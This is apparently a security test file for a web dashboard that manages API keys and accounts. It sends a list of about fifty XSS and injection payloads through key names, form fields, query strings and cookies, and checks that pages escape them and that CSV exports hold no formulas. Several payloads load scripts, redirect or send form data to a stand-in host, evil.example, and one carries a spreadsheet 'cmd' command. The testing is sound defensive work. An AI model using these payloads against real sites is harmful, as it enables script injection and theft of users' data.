import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { operatorAccount } from "../../../src/domain/account.ts";
import { openTestDashboard, type TestDashboard, type Visitor } from "../support.ts";
import { markupFaults, pagesOf, wordId } from "./pages.ts";

// Names of keys and accounts that would run, or break out of, where they stand in a careless page. None has more than
// the 100 characters of a name.
const payloads = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "</script><script>alert(1)</script>",
  "</title><script>alert(1)</script>",
  "</textarea><script>alert(1)</script>",
  "</option></select><script>alert(1)</script>",
  "</code></pre><img src=x onerror=alert(1)>",
  "<img src=x onerror=alert(1)>",
  '"><img src=x onerror=alert(1)>',
  "'><img src=x onerror=alert(1)>",
  '" onmouseover="alert(1)" autofocus="',
  "' onfocus='alert(1)' autofocus='",
  "` onload=`alert(1)`",
  '" style="background:url(//evil.example)" x="',
  '"/><svg/onload=alert(1)>',
  "<svg><script>alert(1)</script></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  "<math><mi//xlink:href='javascript:alert(1)'>",
  "<iframe src=javascript:alert(1)>",
  "<iframe srcdoc='<script>alert(1)</script>'>",
  "<object data=javascript:alert(1)>",
  "<embed src=//evil.example/x.swf>",
  "<base href=//evil.example/>",
  "<meta http-equiv=refresh content='0;url=//evil.example'>",
  "<link rel=stylesheet href=//evil.example/x.css>",
  "<style>@import '//evil.example/x.css';</style>",
  "<form action=//evil.example><button>Sign in",
  "<a href=javascript:alert(1)>x</a>",
  "javascript:alert(1)",
  "<details open ontoggle=alert(1)>",
  "<body onload=alert(1)>",
  "<!--<img src='--><img src=x onerror=alert(1)//'>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "<template><script>alert(1)</script></template>",
  "<<script>alert(1);//<</script>",
  "<img src=x onerror=&#97;lert(1)>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;script&#62;alert(1)&#60;/script&#62;",
  "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
  "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
  "{{constructor.constructor('alert(1)')()}}",
  "'-alert(1)-'",
  "\\'-alert(1)//",
  "]]><script>alert(1)</script>",
  "＜script＞alert(1)＜/script＞",
  "\u202e<script>alert(1)</script>",
  '=HYPERLINK("//evil.example","x")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
];
/** Text as a reader of the page sees it. */
const plain = (html: string): string =>
  html
    .replaceAll("&lt;", "<")
    .replaceAll("&gt;", ">")
    .replaceAll("&quot;", '"')
    .replaceAll("&#39;", "'")
    .replaceAll("&amp;", "&");

let dash: TestDashboard;
let operator: Visitor;
let keyIds: string[];

beforeAll(async () => {
  dash = openTestDashboard();
  operator = await dash.signUpFirst();
  keyIds = [];
  for (const payload of payloads) {
    await operator.post("/dashboard/keys", { name: payload });
    const key = dash.keys.list(operatorAccount).find(({ name }) => name === payload);
    if (!key) throw new Error(`There is no key with the name ${payload}`);
    keyIds.push(key.id);
    await dash.accounts.create({ name: payload, plan: "free" });
  }
  // So that usage, marks, renamings and revoked keys are on the pages too.
  for (const [index, id] of keyIds.entries()) {
    const call = new Request(`${dash.origin}/v1/words?limit=${(index % 20) + 1}&tier=full`);
    await (await dash.app.callAs(id, call)).text();
    await dash.keys.rename(id, "other");
    await dash.keys.rename(id, payloads[index] as string);
    if (index % 3 === 0) await dash.keys.revoke(id);
  }
});
afterAll(() => dash[Symbol.dispose]());

describe("a script as the name of a key or account", () => {
  test("every name is stored as it was given", () => {
    expect(
      dash.keys
        .list(operatorAccount)
        .map(({ name }) => name)
        .sort(),
    ).toEqual([...payloads].sort());
  });

  for (const language of ["en", "ar"] as const)
    test(`is text on every page in ${language}`, async () => {
      const paths = new Set(keyIds.flatMap((id, index) => pagesOf(id, payloads[index])));
      const faults: string[] = [];
      let shown = 0;
      for (const path of paths) {
        // The playground's pages are the same for all keys: two are enough.
        if (path.includes("playground?") && !keyIds.slice(0, 2).some((id) => path.includes(id))) continue;
        const page = await operator.get(path, { "accept-language": language });
        if (page.status >= 500) faults.push(`${path}: ${page.status}`);
        if (!page.headers.get("content-type")?.startsWith("text/html")) continue;
        faults.push(...(await markupFaults(page.text)).map((fault) => `${path}: ${fault}`));
        if (plain(page.text).includes(payloads[0] as string)) shown++;
      }
      expect(faults).toEqual([]);
      expect(shown).toBeGreaterThan(40);
    }, 30_000);

  test("is text on the pages that a form answers with", async () => {
    const faults: string[] = [];
    for (const payload of payloads) {
      const forms: readonly (readonly [string, Record<string, string>])[] = [
        ["/dashboard/keys", { name: `${payload}${"x".repeat(100)}` }],
        [`/dashboard/keys/${keyIds[1]}/rename`, { name: `${payload}\n` }],
        [`/dashboard/keys/${keyIds[1]}/revoke`, { lastFour: payload }],
        [
          `/dashboard/playground?endpoint=listWords`,
          { key: keyIds[1] as string, q: payload, root: payload, pos: payload },
        ],
        [
          `/dashboard/playground?endpoint=bulkWords`,
          { key: keyIds[1] as string, lemmas: payload, tier: payload },
        ],
        [`/dashboard/words/${wordId}`, { key: keyIds[1] as string, tier: payload }],
        [
          "/dashboard/operator/plans",
          { name: payload, day: payload, month: payload, concurrency: payload, pageLimit: payload },
        ],
        ["/dashboard/operator/invitations", { email: payload, plan: payload }],
        ["/dashboard/operator/account/plan", { name: payload, plan: payload }],
        ["/dashboard/account/password", { current: payload, next: payload }],
        ["/dashboard/preferences", { language: payload, theme: payload, back: payload }],
      ];
      for (const [path, fields] of forms) {
        const page = await operator.post(path, fields);
        if (page.status >= 500) faults.push(`${path}: ${payload}: ${page.status}`);
        if (page.status === 403) faults.push(`${path}: ${payload}: refused as forged`);
        faults.push(...(await markupFaults(page.text)).map((fault) => `${path}: ${payload}: ${fault}`));
      }
    }
    expect(faults).toEqual([]);
  }, 30_000);

  test("is text where it stands in an address", async () => {
    const stranger = dash.visitor();
    const faults: string[] = [];
    const names =
      "next link back key kind page span q name to endpoint month reset set saved plan email language".split(
        " ",
      );
    for (const payload of payloads) {
      const query = new URLSearchParams(names.map((name) => [name, payload])).toString();
      const paths = [
        "keys",
        "usage",
        "usage.csv",
        "events",
        "events.json",
        "playground",
        "plan",
        "account",
        `words/${wordId}`,
        "operator/accounts",
        "operator/account",
        "operator/plans",
        "operator/invitations",
        `keys/${keyIds[1]}/rotate`,
        encodeURIComponent(payload),
        `keys/${encodeURIComponent(payload)}`,
      ];
      const pages = [
        ...(await Promise.all(paths.map((path) => operator.get(`/dashboard/${path}?${query}`)))),
        ...(await Promise.all(
          ["sign-in", "sign-up", "reset", "forgot"].map((path) =>
            stranger.get(`/dashboard/${path}?${query}`),
          ),
        )),
      ];
      for (const page of pages) {
        const where = `${page.path.split("?")[0]} with ${payload}`;
        if (page.status >= 500) faults.push(`${where}: ${page.status}`);
        if (page.headers.get("content-type")?.startsWith("text/html"))
          faults.push(...(await markupFaults(page.text)).map((fault) => `${where}: ${fault}`));
      }
    }
    expect(faults).toEqual([]);
  }, 30_000);

  test("is text in the answer to a sign-in, and in cookies that are not ours", async () => {
    const faults: string[] = [];
    for (const [index, payload] of payloads.entries()) {
      const visitor = dash.visitor({ address: `2001:db8:0:${index.toString(16)}::1` });
      for (const name of ["language", "theme", "visitor", "session"])
        visitor.cookies.set(`mizan_${name}`, payload.replaceAll(/[;\u0100-\uffff]/g, ""));
      const page = await visitor.send("/dashboard/sign-in", { headers: { "accept-language": "en" } });
      const answer = await visitor.post("/dashboard/sign-in", {
        email: payload,
        password: payload,
        next: payload,
      });
      faults.push(...(await markupFaults(page.text)), ...(await markupFaults(answer.text)));
      expect([page.status, answer.status]).toEqual([200, 400]);
      expect(plain(answer.text)).toContain(payload);
    }
    expect(faults).toEqual([]);
  });

  test("is no formula in a file for a spreadsheet, and JSON stays JSON", async () => {
    for (const path of ["usage", "events"]) {
      const csv = await operator.get(`/dashboard/${path}.csv`);
      expect(csv.status).toBe(200);
      const cells = csv.text.split(/\r\n|,/);
      expect(cells.filter((cell) => /^"?[=+@\t\r]/.test(cell))).toEqual([]);
      const json = await operator.get(`/dashboard/${path}.json`);
      expect(Array.isArray(JSON.parse(json.text))).toBe(true);
      expect(json.headers.get("content-type")).toStartWith("application/json");
      for (const file of [csv, json])
        expect(file.headers.get("content-disposition")).toMatch(/^attachment; filename="[\w.-]+"$/);
    }
  });
});

test("markupFaults sees what it is there to see", async () => {
  const seen = await Promise.all(
    payloads
      .filter(
        (payload) =>
          /^["']?[<>]/.test(payload) &&
          !payload.startsWith("<<") &&
          !/^<(?:details|template|noscript)/.test(payload),
      )
      .map(async (payload) => ({
        payload,
        faults: await markupFaults(`<p title="x${payload}">${payload}</p>`),
      })),
  );
  expect(seen.filter(({ faults }) => faults.length === 0).map(({ payload }) => payload)).toEqual([]);
  expect(
    await markupFaults('<p title="&lt;script&gt;">&lt;script&gt;alert(1)</p><a href="/x">x</a>'),
  ).toEqual([]);
});
